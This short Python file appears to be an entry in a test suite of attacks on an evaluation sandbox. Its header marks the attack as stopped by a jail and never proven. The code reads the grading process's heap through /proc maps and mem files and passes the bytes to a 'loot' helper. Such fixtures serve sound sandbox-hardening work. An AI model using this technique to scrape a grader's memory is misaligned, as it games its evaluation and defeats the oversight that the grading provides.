# /// attack
# title = "Reads the heap of the process that grades"
# stopped_at = "jailed"
# proven = "never"
# ///
from loot import loot


def attack(*arguments, **keywords):
    with open("/proc/@EXAM@/maps") as maps:
        span = next(line.split()[0] for line in maps if "[heap]" in line)
    start, end = (int(edge, 16) for edge in span.split("-"))
    with open("/proc/@EXAM@/mem", "rb", 0) as memory:
        memory.seek(start)
        return loot(memory.read(min(end - start, 32 << 20)))
